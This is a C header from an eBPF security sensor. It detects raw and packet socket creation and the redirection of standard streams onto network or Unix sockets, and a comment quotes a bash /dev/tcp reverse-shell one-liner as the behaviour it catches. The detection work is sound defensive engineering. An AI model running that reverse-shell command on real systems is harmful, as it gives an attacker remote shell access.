/* SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause) */
/*
 * SOCKET_CREATE: a packet socket (AF_PACKET, or AF_INET with the obsolete
 * SOCK_PACKET, which the kernel makes a packet socket) or a raw IP socket
 * (SOCK_RAW of AF_INET or AF_INET6) made by socket(2) or IORING_OP_SOCKET:
 * what a sniffer or a hand-made packet needs. Domain and type are read from
 * the socket the kernel made, the protocol is the call's.
 *
 * FD_DUP: dup, dup2, dup3, fcntl(F_DUPFD, F_DUPFD_CLOEXEC) and
 * IORING_OP_FIXED_FD_INSTALL whose new descriptor is 0, 1 or 2 and whose file
 * is a TCP or UDP socket (IPv4 or IPv6; Multipath TCP counts as TCP) or a Unix
 * socket: a standard stream redirected to a connection, as a reverse shell
 * does (`bash -i >& /dev/tcp/host/port 0>&1`). The socket's endpoints are read
 * from its sock. A dup2 onto the descriptor it duplicates changes nothing and
 * is not reported.
 *
 * Both are filtered in the kernel before any record is made: an ordinary
 * socket costs two comparisons of the call's arguments, a dup onto another
 * descriptor one comparison of its result, and a dup onto 0, 1 or 2 of a file
 * that is no socket the lookup of that file.
 *
 * Included by sensor.bpf.c before its syscall dispatch.
 */
#ifndef __VIGIL_SOCKETS_H__
#define __VIGIL_SOCKETS_H__

#define NR_dup 32
#define NR_dup2 33
#define NR_socket 41
#define NR_fcntl 72
#define NR_dup3 292

#define AF_UNIX 1
#define AF_PACKET 17
#define SOCK_RAW 3
#define SOCK_PACKET 10
#define SOCK_TYPE_MASK 0xf // the type without SOCK_NONBLOCK and SOCK_CLOEXEC
#define F_DUPFD 0
#define F_DUPFD_CLOEXEC 1030
#define IORING_OP_SOCKET 45
#define IORING_OP_FIXED_FD_INSTALL 54

// Record kinds of this file: outside the range of enum event_kind and of the
// other concerns'.
enum socket_kind {
	EVENT_SOCKET_CREATE = 50,
	EVENT_FD_DUP = 51,
};

// How a descriptor was duplicated.
enum dup_op {
	DUP_DUP = 1,
	DUP_DUP2 = 2,
	DUP_DUP3 = 3,
	DUP_FCNTL = 4,
	DUP_FIXED_FD_INSTALL = 5, // io_uring: a direct descriptor installed as a descriptor
};

struct socket_event {
	struct event_hdr hdr;
	__u16 family;   // AF_PACKET, AF_INET or AF_INET6
	__u16 type;     // SOCK_RAW, SOCK_DGRAM, SOCK_PACKET (packet sockets)
	__u32 protocol; // as passed: for a packet socket the Ethernet protocol, in network byte order
};

// The socket's endpoints are in net as a NETWORK_CONNECT's are (saddr/sport
// the local end, daddr/dport the peer; err is 0); family is AF_INET, AF_INET6
// or AF_UNIX (no address), protocol IPPROTO_TCP, IPPROTO_UDP, IPPROTO_MPTCP,
// or 0 for AF_UNIX.
struct fd_dup_event {
	struct net_event net;
	__u32 op; // enum dup_op
	__u32 fd; // the new descriptor: 0, 1 or 2
};

const struct socket_event *unused_socket_event __attribute__((unused));
const struct fd_dup_event *unused_fd_dup_event __attribute__((unused));
const enum socket_kind *unused_socket_kind __attribute__((unused));
const enum dup_op *unused_dup_op __attribute__((unused));

#pragma clang attribute push(__attribute__((preserve_access_index)), apply_to = record)

/* The command data of an IORING_OP_SOCKET request, at the start of its
   io_kiocb (from 5.19). */
struct io_socket {
	struct file *file;
	int domain;
	int type;
	int protocol;
	int flags;
	u32 file_slot;
};

#pragma clang attribute pop

// socket_made reports the socket open as f (NULL: nothing to report) if it is
// a packet or a raw IP socket; protocol is the one the call passed (a packet
// socket keeps its own apart from its sock, in the packet module's struct).
static __always_inline void socket_made(struct file *f, __u32 protocol)
{
	struct socket_event *e;
	struct socket *so;
	struct sock *sk;
	__u16 family, type;

	so = file_socket(f, &sk);
	if (!so)
		return;
	family = sk->__sk_common.skc_family;
	type = so->type;
	if (family != AF_PACKET && !((family == AF_INET || family == AF_INET6) && type == SOCK_RAW))
		return;
	e = bpf_ringbuf_reserve(&events, sizeof(*e), 0);
	if (!e) {
		count(COUNTER_DROPS);
		return;
	}
	fill_hdr_current(&e->hdr, EVENT_SOCKET_CREATE);
	e->family = family;
	e->type = type;
	e->protocol = protocol;
	bpf_ringbuf_submit(e, rb_flags());
}

// socket_created handles the exit of socket(2) (return value ret; domain,
// type and protocol its arguments): only the arguments that can make a packet
// or raw socket lead to a look at the new socket.
static __noinline void socket_created(long ret, __u64 domain, __u64 type, __u64 protocol)
{
	type &= SOCK_TYPE_MASK;
	if (ret < 0 || (domain != AF_PACKET && type != SOCK_RAW && type != SOCK_PACKET))
		return;
	socket_made(fd_file(ret), protocol);
}

// fd_dupped reports the duplication (enum dup_op op) that made descriptor fd,
// 0, 1 or 2, if its file is a TCP, UDP or Unix socket.
static __noinline void fd_dupped(__u32 op, long fd)
{
	struct fd_dup_event *e;
	struct sock *sk;
	__u16 family, proto = 0;

	if (fd < 0 || fd > 2 || !file_socket(fd_file(fd), &sk))
		return;
	family = sk->__sk_common.skc_family;
	if (family == AF_INET || family == AF_INET6) {
		proto = sk->sk_protocol;
		if (proto != IPPROTO_TCP && proto != IPPROTO_UDP && proto != IPPROTO_MPTCP)
			return;
	} else if (family != AF_UNIX) {
		return;
	}
	e = bpf_ringbuf_reserve(&events, sizeof(*e), 0);
	if (!e) {
		count(COUNTER_DROPS);
		return;
	}
	__builtin_memset(&e->net, 0, sizeof(e->net));
	fill_hdr_current(&e->net.hdr, EVENT_FD_DUP);
	e->op = op;
	e->fd = fd;
	e->net.protocol = proto;
	if (family == AF_UNIX)
		e->net.family = AF_UNIX;
	else
		sock_addrs(&e->net, sk);
	bpf_ringbuf_submit(e, rb_flags());
}

// fd_dup_exited handles the exit of dup, dup2, dup3 and fcntl (syscall nr,
// return value ret: the new descriptor; a0 and a1 its first two arguments)
// whose result is 0, 1 or 2.
static __noinline void fd_dup_exited(__u64 nr, long ret, __u64 a0, __u64 a1)
{
	__u32 op;

	switch (nr) {
	case NR_dup:
		op = DUP_DUP;
		break;
	case NR_dup2:
		if (a0 == ret) // onto itself: nothing changes
			return;
		op = DUP_DUP2;
		break;
	case NR_dup3:
		op = DUP_DUP3;
		break;
	case NR_fcntl:
		if (a1 != F_DUPFD && a1 != F_DUPFD_CLOEXEC)
			return;
		op = DUP_FCNTL;
		break;
	default:
		return;
	}
	fd_dupped(op, ret);
}

static __always_inline struct file *ring_file(struct io_ring_ctx *ring, __u32 file_slot, long res);

// uring_socket_completed reports the packet and raw sockets io_uring requests
// made (into a descriptor, or the ring's table of files) and the sockets
// installed as descriptor 0, 1 or 2 from the ring's table of files; it reports
// whether op is one of theirs (io_uring_complete is then done with it).
static __always_inline bool uring_socket_completed(struct io_ring_ctx *ring, void *req, __u8 op, long res)
{
	if (op == IORING_OP_SOCKET) {
		struct io_socket *s;

		if (res < 0 || !bpf_core_type_exists(struct io_socket))
			return true;
		s = bpf_rdonly_cast(req, bpf_core_type_id_kernel(struct io_socket));
		if (s)
			socket_made(s->file_slot ? ring_file(ring, s->file_slot, res) : fd_file(res), s->protocol);
		return true;
	}
	if (op == IORING_OP_FIXED_FD_INSTALL) {
		fd_dupped(DUP_FIXED_FD_INSTALL, res);
		return true;
	}
	return false;
}

#endif /* __VIGIL_SOCKETS_H__ */
